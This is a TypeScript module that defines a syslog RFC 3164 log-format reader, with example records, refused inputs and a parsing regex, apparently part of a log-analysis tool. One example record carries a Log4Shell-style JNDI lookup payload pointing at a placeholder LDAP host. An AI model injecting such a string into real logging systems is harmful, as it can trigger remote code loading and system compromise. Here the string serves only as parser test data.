import { readTime } from '../time/read-time.ts'
import type { LogFormat } from './format.ts'

/**
 * Syslog as files and older senders have it: `<priority>` or none, time, host, program; the message is read as what it is.
 * `CEF:` and `LEEF:` are no programs, also where a blank stands behind them.
 */
export const syslogRfc3164: LogFormat = {
  id: 'syslog-rfc3164',
  summary: 'syslog, of files and of the wire, with the time in RFC 3164 or ISO 8601; the message is read as what it is',
  definedBy: 'https://www.rfc-editor.org/rfc/rfc3164',
  examples: {
    reads: [
      {
        record: '<34>Dec 12 04:25:41 web1 app[1234]: login of ${jndi:ldap://x.example/a} failed',
        when: '2021-12-12T04:25:41Z',
      },
      {
        record: 'Dec  2 04:25:41 web1 su: x',
        when: '2021-12-02T04:25:41Z',
      },
      {
        record:
          '2021-12-12T04:25:41.123456+00:00 web1 nginx: 203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /a HTTP/1.1" 200 6 "-" "curl/7.79.1"',
        when: '2021-12-12T04:25:41.123Z',
      },
    ],
    refuses: ['Dec 12 04:25:41', '<34>app: hello', '2021-12-12T04:25:41Z hello world'],
  },
  read({ text }, { around }) {
    const match =
      /^(?:<\d{1,3}>)?([A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d|\d{4}-\d\d-\d\dT[\d:.]{8,20}(?:Z|[+-]\d\d:?\d\d)) (\S{1,255}) (?!(?:CEF|LEEF): \d)([^\s:[\]%][^\s:[\]]{0,127})(?:\[[^\s\]]{0,64}\])?:(?: |$)/.exec(
        text,
      )
    if (match === null) return null
    const [whole, time = '', host = '', program = ''] = match
    const when = readTime(time, around)
    if (when === null) return null
    return {
      when,
      from: null,
      request: null,
      userAgent: null,
      fields: [
        { name: 'host', value: host },
        { name: 'program', value: program },
        { name: null, value: text.slice(whole.length), holdsRecord: true },
      ],
    }
  },
}
